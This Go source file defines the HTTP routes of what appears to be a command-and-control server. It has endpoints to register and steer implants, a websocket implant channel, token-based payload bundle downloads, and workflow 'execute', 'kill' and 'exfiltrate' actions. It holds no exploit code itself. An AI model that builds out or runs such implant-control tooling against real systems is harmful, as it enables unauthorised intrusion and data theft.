package http

import (
	"github.com/gin-gonic/gin"

	"github.com/ospray/ospray-server/internal/api/http/handler"
	"github.com/ospray/ospray-server/internal/api/http/middleware"
	"github.com/ospray/ospray-server/internal/auth"
	"github.com/ospray/ospray-server/internal/bundle"
	"github.com/ospray/ospray-server/internal/bus"
	"github.com/ospray/ospray-server/internal/gateway"
	"github.com/ospray/ospray-server/internal/identity"
	"github.com/ospray/ospray-server/internal/implants"
	"github.com/ospray/ospray-server/internal/tasks"
	"github.com/ospray/ospray-server/internal/workflow"
)

type Services struct {
	Auth         *auth.Service
	AuthConfig   auth.Config
	Bus          *bus.Service
	Implants     *implants.Service
	Distributor  *tasks.Distributor
	Orchestrator *workflow.Orchestrator
	Identity     *identity.Service
	Bundles      *bundle.Service
	Gateway      *gateway.Gateway
}

func SetupRoute(engine *gin.Engine, srvs *Services) {
	engine.Use(middleware.RequestLogger())

	healthHandler := handler.NewHealthHandler()
	engine.GET("/health", healthHandler.Check)

	authHandler := handler.NewAuthHandler(srvs.Auth)
	engine.POST("/auth/login", authHandler.Login)

	bundleHandler := handler.NewBundleHandler(srvs.Bundles)
	// Public delivery route; the token is the credential.
	engine.GET("/download/:token", bundleHandler.Download)

	certHandler := handler.NewCertHandler(srvs.Identity)
	engine.GET("/ca.pem", certHandler.CABundle)

	// Implant channel: websocket with cert verification at the TLS layer.
	engine.GET("/channel", srvs.Gateway.Handle)

	api := engine.Group("/api/v1", middleware.JWTAuth(srvs.AuthConfig.Secret))

	api.POST("/auth/register", middleware.RequireRole(auth.RoleAdmin), authHandler.Register)

	implantHandler := handler.NewImplantHandler(srvs.Implants)
	api.POST("/implants", implantHandler.Register)
	api.GET("/implants", implantHandler.List)
	api.GET("/implants/:id", implantHandler.Get)
	api.PATCH("/implants/:id", implantHandler.Tune)
	api.POST("/implants/:id/terminate", middleware.RequireRole(auth.RoleAdmin), implantHandler.Terminate)
	api.POST("/implants/:id/heartbeat", implantHandler.Heartbeat)
	api.POST("/implants/:id/telemetry", implantHandler.Telemetry)

	taskHandler := handler.NewTaskHandler(srvs.Distributor)
	api.POST("/tasks", taskHandler.Create)
	api.GET("/tasks/queue", taskHandler.Queue)
	api.GET("/tasks/stats", taskHandler.Stats)
	api.GET("/tasks/summaries", taskHandler.Summaries)
	api.POST("/tasks/assign", taskHandler.AssignPass)
	api.POST("/tasks/retry", taskHandler.RetryPass)
	api.GET("/tasks/:id", taskHandler.Get)
	api.POST("/tasks/:id/assign", taskHandler.Assign)
	api.POST("/tasks/:id/cancel", taskHandler.Cancel)
	api.POST("/tasks/:id/result", taskHandler.Report)

	workflowHandler := handler.NewWorkflowHandler(srvs.Orchestrator)
	api.POST("/workflows", workflowHandler.Create)
	api.GET("/workflows", workflowHandler.List)
	api.GET("/workflows/:id", workflowHandler.Get)
	api.POST("/workflows/:id/execute", workflowHandler.Execute)
	api.POST("/workflows/:id/tasks/execute", workflowHandler.ExecuteTask)
	api.POST("/workflows/:id/kill", workflowHandler.Kill)
	api.POST("/workflows/:id/exfiltrate", workflowHandler.Exfiltrate)

	api.POST("/bundles", middleware.RequireRole(auth.RoleAdmin), bundleHandler.Generate)
	api.GET("/bundles", bundleHandler.List)
	api.GET("/bundles/:id", bundleHandler.Get)
	api.DELETE("/bundles/:id", middleware.RequireRole(auth.RoleAdmin), bundleHandler.Deactivate)
	api.POST("/bundles/:id/tokens", middleware.RequireRole(auth.RoleAdmin), bundleHandler.IssueToken)
	api.DELETE("/bundles/tokens/:token_id", middleware.RequireRole(auth.RoleAdmin), bundleHandler.RevokeToken)

	api.GET("/certificates", certHandler.List)
	api.GET("/certificates/:id", certHandler.Get)
	api.POST("/certificates/:id/revoke", middleware.RequireRole(auth.RoleAdmin), certHandler.Revoke)
	api.GET("/certificates/verify/:serial", certHandler.Verify)

	busHandler := handler.NewBusHandler(srvs.Bus)
	api.POST("/agents", busHandler.RegisterAgent)
	api.GET("/agents/:id", busHandler.GetAgent)
	api.DELETE("/agents/:id", busHandler.UnregisterAgent)
	api.POST("/agents/:id/heartbeat", busHandler.AgentHeartbeat)
	api.GET("/agents/:id/messages", busHandler.Inbox)
	api.POST("/agents/:id/subscriptions", busHandler.Subscribe)
	api.GET("/agents/:id/subscriptions", busHandler.Subscriptions)
	api.POST("/messages", busHandler.Send)
	api.POST("/messages/:id/delivered", busHandler.MarkDelivered)
	api.POST("/messages/:id/read", busHandler.MarkRead)
	api.POST("/messages/:id/processed", busHandler.MarkProcessed)
}
